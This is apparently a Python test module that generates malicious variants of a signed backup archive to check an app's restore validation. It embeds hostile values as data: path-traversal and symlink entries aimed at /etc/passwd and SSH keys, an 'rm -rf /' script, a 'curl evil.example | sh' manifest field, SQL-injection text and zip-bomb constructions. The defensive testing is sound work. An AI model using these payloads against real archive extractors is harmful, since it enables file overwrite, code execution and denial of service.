"""A generator of hostile archives, made from a valid one.

Each case rewrites a real archive: it changes the members or the manifest, then signs the manifest
again with the right key (unless the case is about the signature), so the checks that sit behind
the signature are the ones exercised. ``read`` gives any archive in format 1's shape (a ``members``
dict in the manifest) and ``write`` writes format 1, which the engine still reads; ``write_v2``
writes the same members in format 2 (a signed reference to a ``members.tsv`` list). Usable on its own:

    python -m tests.snapshot.hostile VALID.zip OUT_DIR KEY     # writes one archive per case
"""
import hashlib
import json
import random
import sqlite3
import stat
import struct
import sys
import tempfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import zstandard

from app.snapshot.container import MANIFEST, MEMBER_LIST, SIGNATURE, sign
from app.snapshot.operations import DEFAULT_MAX_MEMBERS
from bench.hostile_zip import write_many_entries


@dataclass
class Member:
    name: str
    data: bytes
    mode: int = stat.S_IFREG | 0o600
    compress_type: int = zipfile.ZIP_STORED


def read(path):
    """The members (manifest, signature and member list left out) and the manifest of an archive, in format 1's
    shape: a format-2 manifest gets its ``members`` dict back from the list, and format_version 1."""
    with zipfile.ZipFile(path) as z:
        manifest = json.loads(z.read(MANIFEST))
        members = [Member(i.filename, z.read(i), i.external_attr >> 16, i.compress_type)
                   for i in z.infolist() if i.filename not in (MANIFEST, SIGNATURE, MEMBER_LIST)]
        if manifest.get("format_version") == 2:
            listed_members = {}
            for line in z.read(MEMBER_LIST).decode().splitlines():
                sha, size, name = line.split("\t")
                listed_members[name] = {"size": int(size), "sha256": sha}
            manifest["members"], manifest["format_version"] = listed_members, 1
    return members, manifest


def member_list(members, manifest):
    """Format 2's list for ``members`` (in their order) as the manifest's dict describes them."""
    return "".join(f"{manifest['members'][m.name]['sha256']}\t{manifest['members'][m.name]['size']}\t{m.name}\n"
                   for m in members if m.name in manifest["members"]).encode()


def write_v2(path, members, manifest, key, list_data=None, reference=None):
    """Format 2: the members, ``members.tsv`` (``list_data``, or made by ``member_list``), then the manifest whose
    ``members`` refers to the list (``reference`` overrides any of its fields), signed, and the signature."""
    data = member_list(members, manifest) if list_data is None else list_data
    listing = {"list": MEMBER_LIST, "count": data.count(b"\n"), "bytes": len(data),
               "sha256": hashlib.sha256(data).hexdigest(), **(reference or {})}
    return write(path, members + [Member(MEMBER_LIST, data)], {**manifest, "format_version": 2, "members": listing},
                 key)


def write(path, members, manifest, key, signature=None):
    if "database" in manifest and manifest.get("format_version") == 1 and signature is None:
        # A SQLite database file exists only in format 2 (which ``read`` gives back in format 1's shape).
        return write_v2(path, members, manifest, key)
    data = json.dumps(manifest, indent=1, sort_keys=True).encode()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate names some cases want
        with zipfile.ZipFile(path, "w", allowZip64=True) as z:
            for m in members + [Member(MANIFEST, data), Member(SIGNATURE, (signature or sign(data, key)).encode())]:
                info = zipfile.ZipInfo(m.name, date_time=(2026, 1, 1, 0, 0, 0))
                info.external_attr = m.mode << 16
                info.compress_type = m.compress_type
                z.writestr(info, m.data)
    return path


def listed(manifest, member):
    """Record a member in the manifest as the engine would."""
    manifest["members"][member.name] = {"size": len(member.data), "sha256": hashlib.sha256(member.data).hexdigest()}


def add_file(name, data=b"payload", mode=stat.S_IFREG | 0o600, list_it=True):
    def mutate(members, manifest):
        member = Member(name, data, mode)
        members.append(member)
        if list_it:
            listed(manifest, member)
    return mutate


def table_data(members, manifest, table):
    entry = next(t for t in manifest["tables"] if t["name"] == table)
    member = next(m for m in members if m.name == entry["member"])
    return entry, member, zstandard.ZstdDecompressor().decompressobj().decompress(member.data)


def set_table_data(members, manifest, table, raw, declared_raw=None, rows=None):
    entry, member, _ = table_data(members, manifest, table)
    member.data = zstandard.ZstdCompressor().compress(raw)
    listed(manifest, member)
    entry["raw_bytes"] = len(raw) if declared_raw is None else declared_raw
    if rows is not None:
        entry["rows"] = rows


def add_row(members, manifest, table, make_line):
    """One more row in ``table``: ``make_line(first)`` gets the table's first row as {column: COPY text bytes}
    and returns the new one. Written into the table's data member, or, when the archive holds a SQLite
    database file, into that file (foreign keys off, so a row may break one), with the manifest updated."""
    entry = next(t for t in manifest["tables"] if t["name"] == table)
    columns = [c["name"] for c in entry["columns"]]
    if not manifest.get("database"):
        _, _, raw = table_data(members, manifest, table)
        line = make_line(dict(zip(columns, raw.split(b"\n")[0].split(b"\t"))))
        set_table_data(members, manifest, table, raw + b"\t".join(line[c] for c in columns) + b"\n",
                       rows=entry["rows"] + 1)
        return
    member = next(m for m in members if m.name == manifest["database"]["member"])
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "store.db"
        path.write_bytes(zstandard.ZstdDecompressor().decompressobj().decompress(member.data))
        db = sqlite3.connect(path)
        db.execute("PRAGMA foreign_keys = OFF")
        names = ", ".join(f'"{c}"' for c in columns)
        first = db.execute(f'SELECT {names} FROM "{table}" ORDER BY rowid LIMIT 1').fetchone()
        line = make_line({c: b"\\N" if v is None else str(v).encode() for c, v in zip(columns, first)})
        db.execute(f'INSERT INTO "{table}" ({names}) VALUES ({", ".join("?" * len(columns))})',
                   [None if line[c] == b"\\N" else line[c].decode() for c in columns])
        db.commit()
        db.close()
        data = path.read_bytes()
    member.data = zstandard.ZstdCompressor().compress(data)
    manifest["database"]["raw_bytes"] = len(data)
    entry["rows"] += 1
    listed(manifest, member)


def _first_file(members):
    return next(m for m in members if m.name.startswith("files/"))


# --- the cases: each mutates (members, manifest); some also need raw bytes changed afterwards ---------------------

def absolute_path(m, mf): add_file("/etc/cron.d/evil")(m, mf)
def dot_dot(m, mf): add_file("files/../../outside.txt")(m, mf)
def backslash(m, mf): add_file("files\\..\\evil.txt")(m, mf)
def drive_letter(m, mf): add_file("C:/Windows/evil.txt")(m, mf)
def control_character(m, mf): add_file("files/bell\x07.txt")(m, mf)
def symlink(m, mf): add_file("files/link", b"/etc/passwd", stat.S_IFLNK | 0o777)(m, mf)
def symlink_outside(m, mf): add_file("files/up", b"../../../../root/.ssh/authorized_keys", stat.S_IFLNK | 0o777)(m, mf)
def hard_link_like_device(m, mf): add_file("files/dev", b"", stat.S_IFCHR | 0o600)(m, mf)
def fifo(m, mf): add_file("files/pipe", b"", stat.S_IFIFO | 0o600)(m, mf)
def directory_entry(m, mf): add_file("files/folder/", b"", stat.S_IFDIR | 0o700)(m, mf)
def unlisted_member(m, mf): add_file("files/not-in-manifest.txt", list_it=False)(m, mf)
def member_outside_known_prefixes(m, mf): add_file("scripts/run.sh", b"#!/bin/sh\nrm -rf /\n")(m, mf)


def duplicate_name(m, mf):
    m.append(Member(_first_file(m).name, b"second copy"))


def file_and_folder_same_name(m, mf):
    first = _first_file(m)
    add_file(first.name + "/inside.txt")(m, mf)


def member_larger_than_declared(m, mf):
    first = _first_file(m)
    first.data += b"extra bytes"
    mf["members"][first.name]["sha256"] = hashlib.sha256(first.data).hexdigest()


def checksum_mismatch(m, mf):
    first = _first_file(m)
    first.data = bytes([first.data[0] ^ 1]) + first.data[1:] if first.data else b"x"
    mf["members"][first.name]["size"] = len(first.data)


def listed_but_missing(m, mf):
    m.remove(_first_file(m))


def compressed_member(m, mf):
    _first_file(m).compress_type = zipfile.ZIP_DEFLATED


def format_version_newer(m, mf): mf["format_version"] = 99
def schema_revision_newer(m, mf): mf["schema_revision"] = "ffffffffffff"
def not_our_format(m, mf): mf["format"] = "something-else"
def unknown_kind(m, mf): mf["kind"] = "full-disk-image"


def extra_table(m, mf, name, raw):
    """A table member the engine never wrote, listed in the manifest as if it had."""
    member = Member(f"database/{name}.tsv.zst", zstandard.ZstdCompressor().compress(raw))
    m.append(member)
    listed(mf, member)
    mf["tables"].append({"name": name, "member": member.name, "rows": raw.count(b"\n"), "raw_bytes": len(raw),
                         "columns": [{"name": "id", "type": "integer"}]})


def unknown_table(m, mf): extra_table(m, mf, "evil", b"1\tx\n")
def platform_table(m, mf): extra_table(m, mf, "audit_events", b"")


def column_not_in_schema(m, mf):
    entry = next(t for t in mf["tables"] if t["name"] == "users")
    entry["columns"][-1]["name"] = "is_root"


def table_missing(m, mf):
    entry = next(t for t in mf["tables"] if t["name"] == "orders")
    mf["tables"].remove(entry)


def decompression_bomb_declared(m, mf):
    bomb = b"\0" * (64 * 1024 * 1024)
    set_table_data(m, mf, "settings", bomb)  # honestly declared: 64 MiB from a few KiB


def decompression_bomb_hidden(m, mf):
    entry, _, raw = table_data(m, mf, "settings")
    set_table_data(m, mf, "settings", raw + b"\0" * (64 * 1024 * 1024), declared_raw=len(raw))


def row_count_lies(m, mf):
    entry = next(t for t in mf["tables"] if t["name"] == "orders")
    entry["rows"] -= 1


def append_row(m, mf, table, line):
    """One more row at the end of a table's data; the manifest's row count follows."""
    _, _, raw = table_data(m, mf, table)
    entry = next(t for t in mf["tables"] if t["name"] == table)
    set_table_data(m, mf, table, raw + line, rows=entry["rows"] + 1)


def row_breaks_primary_key(m, mf):
    _, _, raw = table_data(m, mf, "orders")
    append_row(m, mf, "orders", raw.split(b"\n")[0] + b"\n")


def row_breaks_foreign_key(m, mf):
    append_row(m, mf, "order_lines", b"7777777\t987654321\t\\N\t1\t1.00\n")


def row_wrong_type(m, mf):
    _, _, raw = table_data(m, mf, "products")
    fields = raw.split(b"\n")[0].split(b"\t")
    fields[0], fields[5] = b"424242", b"lots"  # stock is an integer column
    append_row(m, mf, "products", b"\t".join(fields) + b"\n")


def row_with_sql_text(m, mf):
    """Not refused: SQL in a value is data. Restored literally; the users table survives."""
    append_row(m, mf, "settings", b"evil\tx'); DROP TABLE users; --\tf\n")


def row_with_too_many_fields(m, mf):
    append_row(m, mf, "settings", b"extra\tvalue\tf\tsurplus\n")


def corrupt_table_stream(m, mf):
    entry, member, _ = table_data(m, mf, "orders")
    member.data = member.data[:8] + bytes(64) + member.data[72:]
    listed(mf, member)


def overlong_component(m, mf): add_file("files/" + "a" * 300 + ".txt")(m, mf)


def _table_with_long_line(m, mf, table, line):
    """A table's data with one more line appended; the row count follows when the line ends."""
    _, _, raw = table_data(m, mf, table)
    entry = next(t for t in mf["tables"] if t["name"] == table)
    set_table_data(m, mf, table, raw + line, rows=entry["rows"] + line.count(b"\n"))


def _filler(size, separator=b"x", seed=7):
    """Text without line breaks that zstd shrinks ~85x: under the 200x expansion cap, as a real attack would keep
    it (one 200 MiB row from a 1.1 MB archive). With separator=b"\t" no value in it is over 1 KiB."""
    rng = random.Random(seed)
    return b"".join(rng.randbytes(4).hex().encode() + b"x" * 1015 + separator for _ in range(size // 1024))


def overlong_row(m, mf):
    """One row of 65 MiB with no line break (over the 64 MiB default), from a ~0.8 MB member."""
    _table_with_long_line(m, mf, "settings", _filler(65 * 1024 * 1024, b"\t"))


def overlong_value(m, mf):
    """A well-formed row whose one value is 33 MiB (over the 32 MiB default for a value)."""
    _table_with_long_line(m, mf, "settings", b"big\t" + _filler(33 * 1024 * 1024) + b"\tf\n")


def created_at_missing(m, mf): del mf["created_at"]
def created_at_malformed(m, mf): mf["created_at"] = "last tuesday"
def created_at_impossible(m, mf): mf["created_at"] = "2026-13-45T25:61:61Z"
def files_not_an_object(m, mf): mf["files"] = []
def unknown_manifest_field(m, mf): mf["run_after_restore"] = "curl evil.example | sh"
def member_size_negative(m, mf): mf["members"][_first_file(m).name]["size"] = -1


def member_sha_malformed(m, mf):
    mf["members"][_first_file(m).name]["sha256"] = "not-a-sha"


def table_rows_not_a_number(m, mf):
    mf["tables"][0]["rows"] = "many"


def table_data_shared(m, mf):
    """Two tables read the same data member."""
    mf["tables"][1]["member"] = mf["tables"][0]["member"]


MUTATIONS = {f.__name__: f for f in [
    absolute_path, dot_dot, backslash, drive_letter, control_character, symlink, symlink_outside,
    hard_link_like_device, fifo, directory_entry, unlisted_member, member_outside_known_prefixes, duplicate_name,
    file_and_folder_same_name, member_larger_than_declared, checksum_mismatch, listed_but_missing, compressed_member,
    format_version_newer, schema_revision_newer, not_our_format, unknown_kind, unknown_table, platform_table,
    column_not_in_schema, table_missing, decompression_bomb_declared, decompression_bomb_hidden, row_count_lies,
    row_breaks_primary_key, row_breaks_foreign_key, row_wrong_type, row_with_too_many_fields, corrupt_table_stream,
    overlong_component, overlong_row, overlong_value, created_at_missing, created_at_malformed, created_at_impossible,
    files_not_an_object, unknown_manifest_field, member_size_negative, member_sha_malformed, table_rows_not_a_number,
    table_data_shared,
]}


def mutated(valid, out, key, mutation):
    members, manifest = read(valid)
    MUTATIONS[mutation](members, manifest) if isinstance(mutation, str) else mutation(members, manifest)
    return write(out, members, manifest, key)


# --- cases on the raw bytes or the signature ----------------------------------------------------------------------

def truncated(valid, out, key):
    data = Path(valid).read_bytes()
    Path(out).write_bytes(data[: len(data) // 2])
    return out


def truncated_tail(valid, out, key):
    data = Path(valid).read_bytes()
    Path(out).write_bytes(data[:-10])
    return out


def flipped_byte(valid, out, key):
    data = bytearray(Path(valid).read_bytes())
    data[len(data) // 3] ^= 0xFF
    Path(out).write_bytes(bytes(data))
    return out


def not_a_zip(valid, out, key):
    Path(out).write_bytes(b"PK\x03\x04 this is not really a zip file " * 100)
    return out


def tampered_manifest(valid, out, key):
    members, manifest = read(valid)
    with zipfile.ZipFile(valid) as z:
        signature = z.read(SIGNATURE).decode()
    manifest["created_by"] = "someone else"
    return write(out, members, manifest, key, signature=signature)


def other_key(valid, out, key):
    members, manifest = read(valid)
    return write(out, members, manifest, "not-the-store-key")


def nul_in_name(valid, out, key):
    """zipfile cuts names at NUL when writing, so the NUL goes into the raw headers afterwards."""
    members, manifest = read(valid)
    add_file("files/nulXname.txt")(members, manifest)
    write(out, members, manifest, key)
    data = Path(out).read_bytes()
    # The name's first occurrence is the local header, the last the central directory; the manifest's copy
    # in between stays as it was, so the signature still matches.
    first, last = data.index(b"files/nulXname.txt"), data.rindex(b"files/nulXname.txt")
    data = bytearray(data)
    data[first + 9] = data[last + 9] = 0
    Path(out).write_bytes(bytes(data))
    return out


def non_ascii_signature(valid, out, key):
    """A signature file holding a non-ASCII byte (hmac.compare_digest raises on such a str)."""
    members, manifest = read(valid)
    return write(out, members, manifest, key, signature="\u00e9" * 64)


# --- cases laid out byte by byte: the ZIP structure itself lies ----------------------------------------------------

@dataclass
class Record:
    """A central-directory record as written: name, where its local header is, sizes, CRC, mode."""
    name: bytes
    offset: int
    size: int
    crc: int
    mode: int = stat.S_IFREG | 0o600


def local_header(name, data):
    return struct.pack("<4s2B4HL2L2H", b"PK\x03\x04", 20, 0, 0x800, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(name), 0) + name


def write_raw(path, members, manifest, key, tweak=None):
    """Members, manifest and signature laid out one after another; ``tweak(records)`` may then change the
    central directory (sizes, offsets, extra records) before it is written."""
    data = json.dumps(manifest, indent=1, sort_keys=True).encode()
    blob, records = bytearray(), []
    for m in members + [Member(MANIFEST, data), Member(SIGNATURE, sign(data, key).encode())]:
        name = m.name.encode()
        records.append(Record(name, len(blob), len(m.data), zlib.crc32(m.data), m.mode))
        blob += local_header(name, m.data) + m.data
    if tweak:
        tweak(records)
    directory = b"".join(
        struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0x800, 0, 0, 0x21, r.crc, r.size, r.size,
                    len(r.name), 0, 0, 0, 0, r.mode << 16, r.offset) + r.name for r in records)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(records), len(records), len(directory), len(blob), 0)
    Path(path).write_bytes(bytes(blob) + directory + end)
    return path


def overlapping_entries(valid, out, key):
    """Two listed, correctly checksummed files whose data is shared: A's data is B's local header and data.
    A chain of such entries makes a ~1 MB archive restore hundreds of MB (Python 3.11.7's zipfile allows it)."""
    members, manifest = read(valid)
    a, b = [m for m in members if m.name.startswith("files/")][:2]
    members.remove(b)
    a.data = local_header(b.name.encode(), b.data) + b.data
    listed(manifest, a)  # b stays listed, with its own size and checksum

    def tweak(records):
        at = next(i for i, r in enumerate(records) if r.name == a.name.encode())
        inside = records[at].offset + 30 + len(records[at].name)
        records.insert(at + 1, Record(b.name.encode(), inside, len(b.data), zlib.crc32(b.data), b.mode))
    return write_raw(out, members, manifest, key, tweak)


def member_past_directory(valid, out, key):
    """A member whose declared size runs past the member data into the central directory."""
    members, manifest = read(valid)
    target = _first_file(members)
    grown = len(target.data) + 10_000_000
    manifest["members"][target.name]["size"] = grown

    def tweak(records):
        next(r for r in records if r.name == target.name.encode()).size = grown
    return write_raw(out, members, manifest, key, tweak)


def entry_count_over_limit(valid, out, key):
    """One entry more than the default cap, counted by the end record: refused before anything is parsed."""
    return write_many_entries(out, DEFAULT_MAX_MEMBERS + 1)


def many_entries_unsigned(valid, out, key):
    """200,000 central-directory records and no manifest: refused without parsing them (was ~4 s, ~120 MB)."""
    return write_many_entries(out, 200_000)


def directory_size_over_limit(valid, out, key):
    """An end record claiming a 4 GB central directory for a handful of entries, in a 22-byte file."""
    Path(out).write_bytes(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 5, 5, 0xFFFFFFF0, 0, 0))
    return out


RAW = {f.__name__: f for f in [truncated, truncated_tail, flipped_byte, not_a_zip, tampered_manifest, other_key,
                                nul_in_name, non_ascii_signature, overlapping_entries, member_past_directory,
                                entry_count_over_limit, many_entries_unsigned, directory_size_over_limit]}


def build(case, valid, out, key):
    if case in RAW:
        return RAW[case](valid, out, key)
    return mutated(valid, out, key, case)


def main(argv):
    valid, folder, key = Path(argv[0]), Path(argv[1]), argv[2]
    folder.mkdir(parents=True, exist_ok=True)
    for case in [*MUTATIONS, *RAW]:
        print(build(case, valid, folder / f"{case}.zip", key))


if __name__ == "__main__":
    main(sys.argv[1:])
